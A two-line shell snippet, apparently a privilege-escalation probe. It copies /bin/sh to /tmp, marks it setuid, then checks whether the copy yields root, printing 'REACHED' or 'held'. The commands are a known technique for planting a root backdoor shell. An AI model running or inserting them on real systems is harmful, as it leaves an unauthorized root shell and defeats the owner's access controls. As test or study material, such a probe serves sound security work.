cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh
/tmp/sh -p -c id 2>/dev/null | grep -q root && echo REACHED || echo held
